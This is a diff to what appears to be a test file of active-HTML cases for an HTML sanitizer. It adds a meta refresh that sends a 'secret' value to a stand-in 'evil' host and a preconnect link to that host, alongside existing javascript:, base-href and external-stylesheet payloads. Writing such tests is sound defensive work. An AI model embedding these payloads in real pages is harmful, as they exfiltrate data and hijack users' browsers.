@@ -21,6 +21,8 @@ ACTIVE_HTML = [
     ("form", '<form action="/api/contents" method=post><input name=x><button>go</button></form>', "form"),
     ("object and embed", '<object data="x.swf"></object><embed src="x.swf">', "object"),
     ("meta refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', "refresh"),
+    ("meta refresh to another host", '<meta http-equiv="refresh" content="1;url=http://evil/?d=secret">', "evil"),
+    ("link preconnect", '<link rel="preconnect" href="http://evil:47123">', "evil"),
     ("base href", '<base href="http://evil/">', "base"),
     ("link stylesheet", '<link rel=stylesheet href="http://evil/x.css">', "evil"),
     ("style tag", "<style>body{display:none}</style>text", "display:none"),
